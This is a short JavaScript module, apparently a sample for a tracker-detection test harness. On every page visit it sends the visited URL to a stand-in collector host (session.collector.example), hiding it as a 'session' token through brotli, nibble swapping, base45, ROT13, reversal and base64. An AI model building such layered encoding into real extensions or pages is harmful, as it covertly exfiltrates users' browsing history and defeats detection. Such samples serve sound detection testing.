import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports pages in a session token: the address compressed with brotli, its nibbles swapped, then in base 45, rotated, reversed and in base64. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-layered-token');
  onVisit(browser, ({ url }) =>
    post(browser, 'https://session.collector.example/v1', { session: token(url) }),
  );

  function token(url) {
    const swapped = browser.codec.brotli.encode(url).map((byte) => ((byte & 15) << 4) | (byte >> 4));
    const rotated = base45([...swapped]).replace(/[A-Z]/g, (letter) =>
      String.fromCharCode(65 + ((letter.charCodeAt(0) - 65 + 13) % 26)),
    );

    return browser.codec.base64.encode([...rotated].reverse().join('')).replace(/=+$/, '');
  }

  function base45(bytes) {
    const digits = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ $%*+-./:';
    let text = '';
    for (let at = 0; at < bytes.length; at += 2) {
      let value = at + 1 < bytes.length ? 256 * bytes[at] + bytes[at + 1] : bytes[at];
      for (let left = at + 1 < bytes.length ? 3 : 2; left > 0; left -= 1) {
        text += digits[value % 45];
        value = Math.floor(value / 45);
      }
    }

    return text;
  }
}
